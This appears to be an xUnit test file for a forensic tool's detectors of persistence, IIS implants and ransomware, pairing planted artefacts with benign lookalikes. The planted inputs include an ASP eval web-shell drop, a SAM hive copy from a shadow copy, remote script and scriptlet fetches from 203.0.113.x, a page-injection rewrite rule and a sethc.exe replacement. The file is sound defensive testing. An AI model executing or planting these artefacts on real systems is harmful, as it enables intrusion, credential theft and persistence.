using Afterpatch.Analysis.Detectors.Defence;
using Afterpatch.Analysis.Detectors.Persistence;
using Afterpatch.Analysis.Detectors.Ransomware;
using Afterpatch.Core;
using Xunit;
using static Afterpatch.Analysis.Tests.Detectors.Persistence.Facts;

namespace Afterpatch.Analysis.Tests.Detectors.Persistence;

/// <summary>What is planted, each beside the honest thing that looks like it.</summary>
public sealed class PlantedTests
{
    [Theory]
    [InlineData("powershell", "-w hidden -c PS_CMD", "powershell", "-File D:\\Jobs\\PS_CMD.ps1")]
    [InlineData("powershell.exe", "PS_CMD", "notepad.exe", "PS_CMD")]
    public void A_worker_task_whose_script_was_never_put_in_is_lemon_ducks(string command, string arguments, string honest, string honestArguments)
    {
        Assert.Equal("lemonduck.task", Assert.Single(Run(new ScheduledTaskDetector(), Task(@"\kT2vWq8", command, arguments))).Detector);
        Assert.Empty(Run(new ScheduledTaskDetector(), Task(@"\Jobs", honest, honestArguments)));
    }

    [Theory]
    [InlineData("cmd.exe", @"/c echo ^<%eval request(""a"")%^> > C:\inetpub\wwwroot\aspnet_client\a.asp", @"/c echo done > D:\Logs\a.txt")]
    [InlineData("cmd.exe", @"/c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM D:\s", @"/c copy D:\Backup\SAM.csv E:\s")]
    [InlineData(@"D:\Tools\nv.exe", "-o stratum+tcp://pool.example.test:3333 -u x", "-o D:\\Reports\\out.csv")]
    [InlineData("java.exe", @"-jar C:\Users\Public\a.jar", @"-jar D:\App\a.jar")]
    [InlineData("pythonw.exe", @"C:\ProgramData\a.py", @"D:\Jobs\a.py")]
    [InlineData("control.exe", @"C:\ProgramData\a.cpl", "desk.cpl")]
    [InlineData("cmstp.exe", @"/s C:\Users\Public\a.inf", @"/s ""C:\Program Files\Vpn\vpn.inf""")]
    [InlineData("hh.exe", "http://203.0.113.9/a.chm", @"C:\Windows\Help\mmc.chm")]
    [InlineData("wuauclt.exe", @"/UpdateDeploymentProvider C:\ProgramData\w.dll /RunHandlerComServer", "/detectnow")]
    public void Tasks_are_judged_by_what_they_run(string command, string planted, string honest)
    {
        Assert.True(Assert.Single(Run(new ScheduledTaskDetector(), Task(@"\x", command, planted))).Severity >= Severity.Medium);
        Assert.Empty(Run(new ScheduledTaskDetector(), Task(@"\x", command, honest)));
    }

    [Theory]
    [InlineData("RunOnceEx", @"C:\ProgramData\e.dll Start", @"C:\Program Files\Vendor\e.dll Start")]
    [InlineData("Crash handler", @"""C:\Users\Public\d.exe"" -p %ld -e %ld", @"""C:\Windows\system32\vsjitdebugger.exe"" -p %ld -e %ld")]
    [InlineData("Media driver", @"C:\ProgramData\codec\m.dll", "msacm32.drv")]
    [InlineData("Name server plug-in", @"D:\dns\p.dll", "")]
    [InlineData("Telemetry", @"C:\Windows\Temp\t.exe", @"%windir%\system32\CompatTelRunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun")]
    [InlineData("Winsock provider", @"D:\net\lsp.dll", @"%SystemRoot%\system32\vsocklib.dll")]
    [InlineData("Performance library", @"C:\ProgramData\perf.dll", @"D:\MSSQL\Binn\sqlctr150.dll")]
    [InlineData("Credential provider", @"C:\Tools\cp.dll", @"C:\Program Files\Duo\DuoCredProv.dll")]
    [InlineData("Script scanner", @"C:\Logs\amsi.dll", @"""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.23110.3-0\MpOav.dll""")]
    [InlineData("Trust provider", @"C:\Windows\System32\ntdll.dll", "Cryptdlg.dll")]
    [InlineData("Signature provider", "ntdll.dll", "mso.DLL")]
    [InlineData("LSA extension", @"C:\Windows\x\e.dll", "lsasrv.dll\nefslsaext.dll")]
    [InlineData("Time provider", @"C:\Windows\System32\..\..\ProgramData\t.dll", @"%SystemRoot%\System32\vmictimeprovider.dll")]
    [InlineData("Print monitor", @"C:\Users\Public\m.dll", "hpzlnt12.dll")]
    [InlineData("Remote management plug-in", @"C:\Scripts\start.ps1", @"%windir%\system32\pwrshplugin.dll")]
    [InlineData("Router manager", @"C:\r.dll", @"%SystemRoot%\System32\iprtrmgr.dll")]
    [InlineData("Accessibility tool", @"C:\Windows\tool.exe", @"%SystemRoot%\System32\Narrator.exe")]
    [InlineData("Boot verification", @"C:\x.exe", @"%SystemRoot%\System32\bootvrfy.exe")]
    [InlineData("Crash helper", @"C:\ProgramData\w.dll", @"C:\Program Files\Google\Chrome\Application\120\chrome_wer.dll")]
    [InlineData("Explorer extension", @"C:\Users\Public\e.dll", @"D:\Apps\7-Zip\7-zip.dll")]
    [InlineData("COM scriptlet", "http://203.0.113.9/a.sct", @"C:\Program Files\Vendor\a.sct")]
    [InlineData("COM scriptlet", @"C:\Apps\a.sct", @"%SystemRoot%\system32\a.sct")]
    [InlineData("Move at start", @"C:\Temp\a.txt -> C:\inetpub\wwwroot\aspnet_client\a.aspx", @"C:\Windows\Temp\a.tmp -> C:\Program Files\Vendor\a.dll")]
    [InlineData("Move at start", @"C:\Windows\System32\cmd.exe -> C:\Windows\System32\sethc.exe", @"C:\Windows\System32\SET1.tmp -> C:\Windows\System32\mshtml.dll")]
    [InlineData("Move at start", @"C:\Users\Public\v.dll -> C:\Windows\System32\version.dll", @"C:\Users\adm\AppData\Local\Temp\s.tmp -> C:\Users\adm\AppData\Local\App\s.dll")]
    [InlineData("Office add-in", @"C:\Users\Public\x.xll", @"/R ""C:\Program Files\Vendor\x.xlam""")]
    public void Autostart_points_are_judged_by_what_stands_there(string location, string planted, string honest)
    {
        Assert.Single(Run(new AutostartDetector(), Item("autostart", @"HKLM\X\v", "unknown", ("location", location), ("command", planted))));
        Assert.Empty(Run(new AutostartDetector(), Item("autostart", @"HKLM\X\v", "unknown", ("location", location), ("command", honest))));
    }

    [Theory]
    [InlineData(@"Image File Execution Options\w3wp.exe\VerifierDlls", "Image file execution options", "verif.dll", "vrfcore.dll vfbasics.dll")]
    [InlineData(@"SilentProcessExit\lsass.exe\LocalDumpFolder", "Silent process exit", @"C:\Temp", "")]
    [InlineData(@"SilentProcessExit\w3wp.exe\MonitorProcess", "Silent process exit", @"C:\Windows\System32\cmd.exe /c whoami", @"C:\Program Files\Debugging\procdump.exe")]
    [InlineData(@"Session Manager\Environment\APPDOMAIN_MANAGER_ASM", "Profiler", "Manager, Version=1.0.0.0", "")]
    public void Points_with_a_name_are_judged_by_it(string name, string location, string planted, string honest)
    {
        Assert.Single(Run(new AutostartDetector(), Item("autostart", $@"HKLM\X\{name}", "unknown", ("location", location), ("command", planted))));
        Assert.Empty(Run(new AutostartDetector(), Item("autostart", $@"HKLM\X\{name}", "unknown", ("location", location), ("command", honest))));
    }

    [Fact]
    public void A_folder_for_dumps_of_another_program_is_quiet() =>
        Assert.Empty(Run(new AutostartDetector(), Item("autostart", @"HKLM\X\SilentProcessExit\w3wp.exe\LocalDumpFolder", "no", ("location", "Silent process exit"), ("command", @"D:\Dumps"))));

    [Fact]
    public void A_users_class_over_the_machines_is_told_and_the_same_product_installed_twice_is_not()
    {
        const string id = "{BCDE0395-E52F-467C-8E3D-C4579291692E}";
        var machine = new MachineClasses { At = new("SOFTWARE"), Programs = new Dictionary<Guid, string> { [Guid.Parse(id)] = "mmdevapi.dll" } };
        InventoryRecord Server(string command, string number = id) => Item("autostart", $@"HKU\adm_Classes\CLSID\{number}\InprocServer32\", "unknown", ("location", "COM server"), ("command", command));
        Assert.Equal("user-class-over-a-class-of-the-machine", Assert.Single(Run(new AutostartDetector(), Server(@"C:\Users\adm\AppData\Local\App\x.dll"), machine)).Details.Single(pair => pair.Key == "reasons").Value);
        Assert.Empty(Run(new AutostartDetector(), Server(@"C:\Users\adm\AppData\Local\App\MMDevAPI.dll"), machine));
        Assert.Empty(Run(new AutostartDetector(), Server(@"C:\Program Files\App\x.dll"), machine));
        Assert.Empty(Run(new AutostartDetector(), Server(@"C:\Users\adm\AppData\Local\App\x.dll", "{00000000-0000-0000-0000-000000000001}"), machine));
    }

    [Fact]
    public void A_tool_of_the_logon_screen_that_is_a_shell_is_told()
    {
        FileDigest File(string path, string hash) => new() { At = new(path), Path = path, SizeBytes = 1, Sha256 = hash, Sha1 = "", Md5 = "" };
        var shell = File(@"C:\Windows\System32\cmd.exe", "aa");
        Assert.Equal(@"C:\Windows\System32\sethc.exe", Assert.Single(Run(new ReplacedToolDetector(), shell, File(@"C:\Windows\System32\sethc.exe", "aa"))).Subject.Value);
        Assert.Empty(Run(new ReplacedToolDetector(), shell, File(@"C:\Windows\System32\sethc.exe", "bb"), File(@"C:\Windows\WinSxS\x\sethc.exe", "aa"), File(@"C:\Windows\System32\cmd2.exe", "aa")));
    }

    [Theory]
    [InlineData("iis-program", "command", @"C:\Users\Public\a.exe", @"C:\Program Files\Vendor\a.exe")]
    [InlineData("iis-program", "command", @"D:\x\a.exe", "dotnet .\\App.dll")]
    [InlineData("iis-assembly", "path", "http://203.0.113.9/a.dll", @".\DSAPIClient\Microsoft.OData.Edm.dll")]
    [InlineData("iis-assembly", "path", @"C:\ProgramData\a.dll", @"D:\App\bin\a.dll")]
    [InlineData("iis-extension", "type", "Contoso.Filter, Contoso", "System.Web.Compilation.X, System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a")]
    public void What_iis_loads_beside_modules_is_judged(string kind, string field, string planted, string honest)
    {
        InventoryRecord One(string value) => Item(kind, "x", "unknown", (field, value), ("path", value.Split(" .")[0]), ("source", "live"));
        Assert.Single(Run(new IisDetector(), One(planted)));
        Assert.Empty(Run(new IisDetector(), One(honest)));
    }

    [Fact]
    public void View_state_that_nobody_checks_is_told()
    {
        Assert.Equal("config.view-state", Assert.Single(Run(new DefenceDetector(), Item("view-state", "/", "unknown", ("mac", "false"), ("source", "live")))).Detector);
        Assert.Equal("config.view-state", Assert.Single(Run(new DefenceDetector(), Item("setting", @"HKLM\X", "unknown", ("value", "AspNetEnforceViewStateMac"), ("data", "0")))).Detector);
        Assert.Empty(Run(new DefenceDetector(), Item("view-state", "/", "unknown", ("mac", "true"), ("encryption", "Never"), ("source", "live")), Item("setting", @"HKLM\X", "unknown", ("value", "AspNetEnforceViewStateMac"), ("data", "1"))));
    }

    [Fact]
    public void A_task_without_an_entry_in_the_tree_is_hidden_when_what_it_runs_says_so()
    {
        var ghost = Task(@"\Ghost", "cmd.exe", @"/c C:\Users\Public\g.exe", "taskcache", descriptor: null) with { IsInTree = false };
        Assert.Contains(Run(new ScheduledTaskDetector(), ghost), finding => finding.Detector == "persistence.hidden-task" && finding.Severity == Severity.High);
        Assert.Empty(Run(new ScheduledTaskDetector(), Task(@"\Left", @"%windir%\system32\defrag.exe", "-c", "taskcache", descriptor: null) with { IsInTree = false }));
    }

    [Theory]
    [InlineData(@"C:\Windows\Logs\explorer.exe", "explorer.exe", "Shell")]
    [InlineData(@"C:\Users\Public\explorer.exe", @"C:\Windows\explorer.exe", "Shell")]
    [InlineData(@"C:\Windows\Logs\userinit.exe,", @"C:\Windows\system32\userinit.exe,", "Userinit")]
    public void The_shell_of_windows_lies_in_windows_itself(string planted, string honest, string value)
    {
        Assert.Single(Run(new AutostartDetector(), Item("autostart", $@"HKLM\X\Winlogon\{value}", "unknown", ("location", "Winlogon"), ("command", planted))));
        Assert.Empty(Run(new AutostartDetector(), Item("autostart", $@"HKLM\X\Winlogon\{value}", "unknown", ("location", "Winlogon"), ("command", honest))));
    }

    [Fact]
    public void What_a_repository_without_index_holds_is_neither_active_nor_removed()
    {
        var parts = new[]
        {
            Wmi("filter", "__EventFilter", "f", ("Name", "f"), ("Query", "SELECT * FROM __InstanceModificationEvent WITHIN 60")),
            Wmi("consumer", "ActiveScriptEventConsumer", "c", ("Name", "c"), ("ScriptText", "CreateObject(\"WScript.Shell\").Run \"calc\"")),
            Wmi("binding", "__FilterToConsumerBinding", "f -> c", ("Filter", "__EventFilter.Name=\"f\""), ("Consumer", "ActiveScriptEventConsumer.Name=\"c\"")),
        };
        Assert.Equal(FindingState.Unknown, Assert.Single(Run(new WmiSubscriptionDetector(), [.. parts.Select(part => part with { IsUncertain = true })])).State);
    }

    [Theory]
    [InlineData("\"C:\\Program Files\\Vendor\\CommandMonitor\\agent.exe\" /x", Severity.Medium, Confidence.Low)]
    [InlineData(@"D:\x\agent.exe", Severity.High, Confidence.Medium)]
    public void A_consumer_that_starts_an_installed_program_is_a_question(string command, Severity severity, Confidence confidence)
    {
        var finding = Assert.Single(Run(new WmiSubscriptionDetector(),
            Wmi("filter", "__EventFilter", "f", ("Query", "SELECT * FROM Win32_ProcessStartTrace")),
            Wmi("consumer", "CommandLineEventConsumer", "c", ("CommandLineTemplate", command)),
            Wmi("binding", "__FilterToConsumerBinding", "f -> c", ("Filter", "__EventFilter.Name=\"f\""), ("Consumer", "CommandLineEventConsumer.Name=\"c\""))));
        Assert.Equal((severity, confidence), (finding.Severity, finding.Confidence));
    }

    [Fact]
    public void A_rule_that_writes_script_into_every_page_is_told_and_microsofts_header_is_not()
    {
        var findings = Run(new DefenceDetector(),
            Item("rewrite-rule", "inj", "unknown", ("direction", "outbound"), ("match", "</body>"), ("action", "Rewrite"), ("target", "<script src=\"http://203.0.113.5/k.js\"></script></body>")),
            Item("rewrite-rule", "csp", "unknown", ("direction", "outbound"), ("serverVariable", "RESPONSE_Content-Security-Policy"), ("action", "Rewrite"), ("target", "script-src 'self' https://res.cdn.office.net")),
            Item("rewrite-rule", "https", "unknown", ("direction", "inbound"), ("match", "(.*)"), ("action", "Redirect"), ("target", "https://{HTTP_HOST}/{R:1}")));
        Assert.Equal(("persistence.page-injection", Severity.High, "inj"), findings.Select(finding => (finding.Detector, finding.Severity, finding.Subject.Value)).Single(one => one.Detector == "persistence.page-injection"));
    }

    [Theory]
    [InlineData("virtual-directory", "physicalPath", @"C:\", @"D:\Apps\site")]
    [InlineData("isapi-filter", "path", @"C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\owa\auth\owaauth2.dll", @"C:\Program Files\Vendor\waf.dll")]
    public void Iis_is_not_led_to_a_drive_or_to_a_library_among_pages(string kind, string field, string planted, string honest)
    {
        Assert.Equal(Severity.High, Assert.Single(Run(new IisDetector(), Item(kind, "x", "unknown", (field, planted), ("source", "live")))).Severity);
        Assert.Empty(Run(new IisDetector(), Item(kind, "x", "unknown", (field, honest), ("source", "live"))));
    }

    [Fact]
    public void An_unknown_module_among_windows_own_weighs_more_where_nothing_was_installed_when_it_came()
    {
        var came = new DateTime(2021, 12, 14, 3, 12, 44, DateTimeKind.Utc);
        var module = Item("iis-native-module", "CompressionModule", "unknown", ("image", @"%windir%\System32\inetsrv\cmprs.dll"), ("source", "live"));
        var added = Event("Microsoft-IIS-Configuration/Operational", 29, came, ("Configuration", "/system.webServer/globalModules/add[@name='CompressionModule']/@image"), ("NewValue", @"%windir%\System32\inetsrv\cmprs.dll"));
        var alone = Assert.Single(Run(new IisDetector(), module, added, Event("System", 19, came.AddDays(-1))));
        Assert.Equal((Severity.High, Confidence.Medium), (alone.Severity, alone.Confidence));
        Assert.Equal(Severity.Medium, Assert.Single(Run(new IisDetector(), module, added, Event("Setup", 2, came.AddMinutes(5)))).Severity);
        Assert.Equal(Severity.Medium, Assert.Single(Run(new IisDetector(), Item("iis-native-module", "RewriteModule", "unknown", ("image", @"%windir%\System32\inetsrv\rewrite.dll"), ("source", "live")), added)).Severity);
        Assert.Equal(Severity.Medium, Assert.Single(Run(new IisDetector(), module with { ChangedUtc = null })).Severity);
    }

    [Theory]
    [InlineData(@"CORP\EX01$", @"\Updater", @"C:\ProgramData\Avast\wsc_proxy.exe", true)]
    [InlineData("S-1-5-18", @"\Updater", @"C:\Program Files\Updater\updater.exe", true)]
    [InlineData(@"CORP\EX01$", @"\Microsoft\Windows\Updater", @"C:\ProgramData\Avast\wsc_proxy.exe", true)]
    [InlineData(@"CORP\EX01$", @"\Microsoft\Windows\UpdateOrchestrator\Scan", @"%systemroot%\system32\usoclient.exe", false)]
    [InlineData(@"CORP\admin", @"\Updater", @"C:\Program Files\Updater\updater.exe", false)]
    [InlineData("", @"\Updater", @"C:\Program Files\Updater\updater.exe", false)]
    public void A_task_of_the_machines_account_is_told_and_one_of_windows_or_of_an_administrator_is_not(string author, string path, string command, bool isTold)
    {
        var found = Run(new ScheduledTaskDetector(), Task(path, command) with { Author = author });
        Assert.Equal(isTold ? ["persistence.task-of-the-machine Informational"] : [], found.Select(one => $"{one.Detector} {one.Severity}"));
    }

    [Fact]
    public void A_change_of_a_task_by_the_machine_and_a_task_that_every_windows_has_are_not_told()
    {
        (string, string)[] fields = [("TaskName", @"\Vendor"), ("TaskContentNew", @"<Task><Actions><Exec><Command>C:\Program Files\V\v.exe</Command></Exec></Actions></Task>"), ("SubjectUserName", "EX01$"), ("SubjectDomainName", "CORP")];
        Assert.Empty(Run(new ScheduledTaskDetector(), Event("Security", 4702, null, fields)));
        Assert.Equal("persistence.task-of-the-machine", Assert.Single(Run(new ScheduledTaskDetector(), Event("Security", 4698, null, fields))).Detector);
        Assert.Empty(Run(new ScheduledTaskDetector(), Task(@"\Vendor", @"C:\Program Files\V\v.exe") with { Author = @"CORP\EX01$" }, Item("task", @"\Vendor", "yes")));
    }

    [Fact]
    public void A_ransom_note_in_several_folders_is_one_finding_with_all_its_paths()
    {
        var notes = new[] { @"C:\decrypt_file.TxT", @"C:\inetpub\decrypt_file.TxT", @"C:\Users\a\Desktop\decrypt_file.TxT" };
        var found = Assert.Single(Run(new KnownFileDetector(FileIndicators.Embedded), notes.Select(path => new MarkedFile { At = new(path), Path = path, SizeBytes = 446 })));
        Assert.Equal(("finding.ransomware.black-kingdom.copies.title", "3"), (found.TitleKey, found.TitleArgs["count"]));
        Assert.Equal(notes, found.Evidence.Select(item => item.At.Source));
        Assert.Null(Assert.Single(Run(new KnownFileDetector(FileIndicators.Embedded), new MarkedFile { At = new(notes[0]), Path = notes[0], SizeBytes = 446 })).TitleKey);
    }

    [Theory]
    [InlineData(4, Severity.High, Confidence.High)]
    [InlineData(1, Severity.Medium, Confidence.Low)]
    public void Logs_that_were_encrypted_are_told_by_their_ending_and_one_alone_may_be_damage(int count, Severity severity, Confidence confidence)
    {
        var logs = Enumerable.Range(1, count).Select(i => $@"C:\Logs\HttpProxy_{i}.LOG.kx7tQ").Select(path => new MarkedFile { At = new(path), Path = path, Mark = MarkedFile.EncryptedLog, SizeBytes = 4_000 });
        var found = Assert.Single(Run(new RansomwareDetector(), logs));
        Assert.Equal(("ransomware.encrypted-logs", severity, confidence, "kx7tQ"), (found.Detector, found.Severity, found.Confidence, found.TitleArgs["name"]));
        Assert.Empty(Run(new RansomwareDetector(), new MarkedFile { At = new(@"C:\a.log"), Path = @"C:\a.log", SizeBytes = 1 }));
    }

    [Theory]
    [InlineData(@"C:\Program Files\F5\HttpModules\F5XFFHttpModule.dll", null)]
    [InlineData(@"%ProgramFiles%\New Relic\.NET Agent\netframework\NewRelic.Profiler.dll", null)]
    [InlineData(@"C:\HttpModules\x64\F5XFFHttpModule.dll", Severity.Medium)]
    [InlineData(@"C:\ProgramData\F5\F5XFFHttpModule.dll", Severity.High)]
    public void A_module_of_a_product_is_quiet_where_products_lie_and_its_name_is_no_excuse_elsewhere(string image, Severity? severity) =>
        Assert.Equal(severity, Run(new IisDetector(), Item("iis-native-module", "F5XFFHttpModule", "unknown", ("image", image), ("source", "live"))).SingleOrDefault()?.Severity);
}
